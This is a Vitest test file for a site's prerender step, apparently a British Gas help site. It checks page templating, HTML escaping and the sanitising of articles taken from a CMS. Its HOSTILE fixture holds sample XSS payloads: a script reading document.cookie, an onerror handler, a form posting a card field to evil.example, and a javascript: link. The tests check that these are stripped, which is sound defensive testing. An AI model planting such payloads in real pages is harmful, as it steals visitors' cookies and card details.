// @vitest-environment node
import { describe, expect, it } from 'vitest';
import { KEPT_PAGE_META } from '@/lib/offline-pages';
import type { Library, SourcedArticle } from '../../../../scripts/build/content-source';
import type { PlannedPage } from '../../../../scripts/build/pages';
import { articleView, pageHtml } from '../../../../scripts/build/render';
import { escapeHtml } from '../../../../src/lib/escape-html';
import { BASENAME } from '@/config/paths';

/** A reading template as Vite writes index.html: the description's attributes over several lines. */
const TEMPLATE = `<!doctype html>
<html lang="en-GB">
  <head>
    <meta charset="UTF-8" />
    <meta
      name="description"
      content="Help with bills, meters, boilers, emergencies and complaints."
    />
    <title>Help &amp; Support - British Gas</title>
    <style>body{margin:0}</style>
    <script>(function(){})()</script>
  </head>
  <body>
    <div id="root"></div>
  </body>
</html>
`;

const head = (html: string) => html.split('</head>')[0]!;

describe("a prerendered page's HTML", () => {
  it('puts the body in the root element', () => {
    const html = pageHtml(TEMPLATE, '<main><h1>Meters</h1></main>', { title: 'Meters' });
    expect(html).toContain('<div id="root"><main><h1>Meters</h1></main></div>');
  });

  it("replaces the template's title with the page's, escaped", () => {
    const html = pageHtml(TEMPLATE, '', { title: 'Bills & "payments" <2024>' });
    expect(html).toContain('<title>Bills &amp; &quot;payments&quot; &lt;2024&gt;</title>');
    expect(html).not.toContain('<title>Help &amp; Support - British Gas</title>');
    expect(html.match(/<title>/g)).toHaveLength(1);
  });

  it("replaces the description Vite writes over several lines with the page's, escaped", () => {
    const html = pageHtml(TEMPLATE, '', {
      title: 'Meters',
      description: 'Gas & "electric" <meters>',
    });
    expect(html).toContain(
      '<meta name="description" content="Gas &amp; &quot;electric&quot; &lt;meters&gt;"',
    );
    expect(html).not.toContain('Help with bills, meters');
    expect(html.match(/name="description"/g)).toHaveLength(1);
  });

  it("keeps the template's description when the page has none", () => {
    const html = pageHtml(TEMPLATE, '', { title: 'Search' });
    expect(html).toContain(
      'content="Help with bills, meters, boilers, emergencies and complaints."',
    );
  });

  it('adds the robots rules only when asked', () => {
    expect(pageHtml(TEMPLATE, '', { title: 'A', robots: 'nosnippet' })).toContain(
      '<meta name="robots" content="nosnippet" />',
    );
    expect(pageHtml(TEMPLATE, '', { title: 'A' })).not.toContain('name="robots"');
  });

  it('adds the canonical link, escaped, only when asked', () => {
    const html = pageHtml(TEMPLATE, '', {
      title: 'A',
      canonical: `https://www.britishgas.co.uk${BASENAME}/meters/faulty-meter?a=1&b=2`,
    });
    expect(head(html)).toContain(
      `<link rel="canonical" href="https://www.britishgas.co.uk${BASENAME}/meters/faulty-meter?a=1&amp;b=2" />`,
    );
    expect(pageHtml(TEMPLATE, '', { title: 'A' })).not.toContain('rel="canonical"');
  });

  it('marks a page to keep offline only when asked', () => {
    expect(head(pageHtml(TEMPLATE, '', { title: 'A', keep: true }))).toContain(KEPT_PAGE_META);
    expect(pageHtml(TEMPLATE, '', { title: 'A', keep: false })).not.toContain(KEPT_PAGE_META);
    expect(pageHtml(TEMPLATE, '', { title: 'A' })).not.toContain(KEPT_PAGE_META);
  });

  it('puts what it adds in the head, before the title', () => {
    const html = pageHtml(TEMPLATE, '', {
      title: 'A',
      robots: 'nosnippet',
      canonical: 'https://example.test/a',
      keep: true,
    });
    const title = html.indexOf('<title>');
    for (const tag of [KEPT_PAGE_META, '<meta name="robots"', '<link rel="canonical"']) {
      expect(html.indexOf(tag)).toBeGreaterThan(html.indexOf('<head>'));
      expect(html.indexOf(tag)).toBeLessThan(title);
    }
  });

  it('refuses a body with an inline script, which the CSP would block', () => {
    expect(() => pageHtml(TEMPLATE, '<p>Hi</p><script>alert(1)</script>', { title: 'A' })).toThrow(
      /inline script/,
    );
    expect(() =>
      pageHtml(TEMPLATE, '<script type="application/json">{}</script>', { title: 'A' }),
    ).toThrow(/inline script/);
  });

  it('accepts a body with a script that loads a file', () => {
    expect(() =>
      pageHtml(TEMPLATE, `<script type="module" src="${BASENAME}/a.js"></script>`, {
        title: 'A',
      }),
    ).not.toThrow();
  });
});

describe('escaping text for HTML', () => {
  it('escapes ampersands, angle brackets and double quotes', () => {
    expect(escapeHtml(`a & b < c > d "e" 'f'`)).toBe(`a &amp; b &lt; c &gt; d &quot;e&quot; 'f'`);
  });

  it('escapes an ampersand once, before the others', () => {
    expect(escapeHtml('&lt;')).toBe('&amp;lt;');
  });
});

const SITE = 'https://www.britishgas.co.uk';

const cmsDocument = (body: string, headExtra = '') => `<!doctype html>
<html lang="en-GB">
  <head>
    <title> Think your meter is faulty? </title>
    <meta name="description" content="What to do if your meter looks wrong." />
    ${headExtra}
  </head>
  <body>
    <header>Not the article</header>
    <article>${body}</article>
  </body>
</html>`;

const sourced = (html: string, label = 'faulty-meter'): SourcedArticle => ({
  category: 'meters',
  label,
  title: 'Faulty meter (from the list)',
  html,
  version: 'deadbeef',
});

const LABELS = ['types-of-meter', 'faulty-meter', 'meter-exchange', 'a', 'b', 'c', 'd'];
const LIBRARY: Library = {
  categories: [
    { id: 'bills', articles: [{ label: 'pay-your-bill' }] },
    { id: 'meters', articles: LABELS.map((label) => ({ label, title: `${label} title` })) },
  ],
  descriptions: new Map(),
  articles: [],
};

const pageOf = (article: SourcedArticle): PlannedPage => ({
  route: 'article',
  path: `/${article.category}/${article.label}`,
  serve: 'reading',
  params: { category: article.category, article: article.label },
  head: { canonical: true, keep: true },
  article,
});

const view = (
  html: string,
  categoryTitle = (id: string) => (id === 'meters' ? 'Meters' : undefined),
) => articleView(pageOf(sourced(html)), LIBRARY, SITE, categoryTitle);

const HOSTILE = `
  <h1>Think your meter is faulty?</h1>
  <p style="color:red" class="idle-warning">Read this.</p>
  <script>window.stolen = document.cookie</script>
  <img src="meter.png" onerror="alert(1)">
  <form action="https://evil.example/collect"><input name="card"><button>Send</button></form>
  <a href="javascript:alert(1)">Click</a>
  <a href="https://evil.example/page">Elsewhere</a>
  <a href="${BASENAME}/emergencies/gas-leak">Gas leak</a>
  <a href="https://www.britishgas.co.uk${BASENAME}/contact-us">Contact us</a>
`;

describe("an article's view, from its CMS document", () => {
  it('takes out scripts, event handlers, forms and their controls', () => {
    const { safeHtml } = view(cmsDocument(HOSTILE));
    expect(safeHtml).not.toMatch(/<script|stolen/);
    expect(safeHtml).not.toMatch(/onerror|alert\(1\)/);
    expect(safeHtml).not.toMatch(/<form|<input|<button|evil\.example\/collect/);
    expect(safeHtml).toContain('<img src="meter.png" alt="">');
  });

  it('takes out style and class attributes', () => {
    const { safeHtml } = view(cmsDocument(HOSTILE));
    expect(safeHtml).toContain('<p>Read this.</p>');
    expect(safeHtml).not.toMatch(/style=|class=/);
  });

  it('takes out a javascript: link', () => {
    const { safeHtml } = view(cmsDocument(HOSTILE));
    expect(safeHtml).not.toContain('javascript:');
    expect(safeHtml).toContain('<a>Click</a>');
  });

  it('sends a link leaving the site with rel="noopener noreferrer"', () => {
    expect(view(cmsDocument(HOSTILE)).safeHtml).toContain(
      '<a href="https://evil.example/page" rel="noopener noreferrer">Elsewhere</a>',
    );
  });

  it("gives a link on the page's own origin no rel", () => {
    const { safeHtml } = view(cmsDocument(HOSTILE));
    expect(safeHtml).toContain(`<a href="${BASENAME}/emergencies/gas-leak">Gas leak</a>`);
    expect(safeHtml).toContain(
      `<a href="https://www.britishgas.co.uk${BASENAME}/contact-us">Contact us</a>`,
    );
  });

  it('judges a link by the site origin it is given', () => {
    const { safeHtml } = articleView(
      pageOf(sourced(cmsDocument(HOSTILE))),
      LIBRARY,
      'https://staging.example.test',
      () => 'Meters',
    );
    expect(safeHtml).toContain(
      `<a href="https://www.britishgas.co.uk${BASENAME}/contact-us" rel="noopener noreferrer">`,
    );
  });

  it('keeps only the article element of the document', () => {
    const { safeHtml } = view(cmsDocument('<p>Body</p>'));
    expect(safeHtml).toBe('<p>Body</p>');
  });

  it("takes the title and description from the document's head", () => {
    const result = view(cmsDocument('<p>Body</p>'));
    expect(result.title).toBe('Think your meter is faulty?');
    expect(result.description).toBe('What to do if your meter looks wrong.');
  });

  it("falls back to the list's title for a document with no title or heading", () => {
    const result = view('<html><head></head><body><article><p>x</p></article></body></html>');
    expect(result.title).toBe('Faulty meter (from the list)');
    expect(result.description).toBe('');
  });

  it('is a nucleus article only when its head says so', () => {
    expect(view(cmsDocument('<p>x</p>', '<meta name="nucleus" content="true">')).nucleus).toBe(
      true,
    );
    expect(view(cmsDocument('<p>x</p>', '<meta name="nucleus" content="false">')).nucleus).toBe(
      false,
    );
    expect(view(cmsDocument('<p>x</p>')).nucleus).toBe(false);
  });

  it('lists at most five related articles of its category, not itself', () => {
    expect(view(cmsDocument('<p>x</p>')).related).toEqual(
      ['types-of-meter', 'meter-exchange', 'a', 'b', 'c'].map((label) => ({
        label,
        title: `${label} title`,
      })),
    );
  });

  it("names its category by the app's title for it, else by its id", () => {
    expect(view(cmsDocument('<p>x</p>')).categoryName).toBe('Meters');
    expect(view(cmsDocument('<p>x</p>'), () => undefined).categoryName).toBe('meters');
  });

  it("carries the article's identity and the version it was built from", () => {
    const result = view(cmsDocument('<p>x</p>'));
    expect(result.category).toBe('meters');
    expect(result.label).toBe('faulty-meter');
    expect(result.builtVersion).toBe('deadbeef');
  });
});

describe('a page whose text has dollar signs', () => {
  it('keeps them as they are in the body, the title and the description', () => {
    const template = `<html><head>
    <meta
      name="description"
      content="Vite's"
    />
    <title>x</title></head><body><div id="root"></div></body></html>`;
    const html = pageHtml(template, "<p>Price $$5 and $& and $'</p>", {
      title: "Save $' now",
      description: 'Pay $$10',
    });
    expect(html).toContain("<p>Price $$5 and $& and $'</p>");
    expect(html).toContain("<title>Save $' now</title>");
    expect(html).toContain('content="Pay $$10"');
    expect(html.match(/<div id="root">/g)).toHaveLength(1);
  });
});
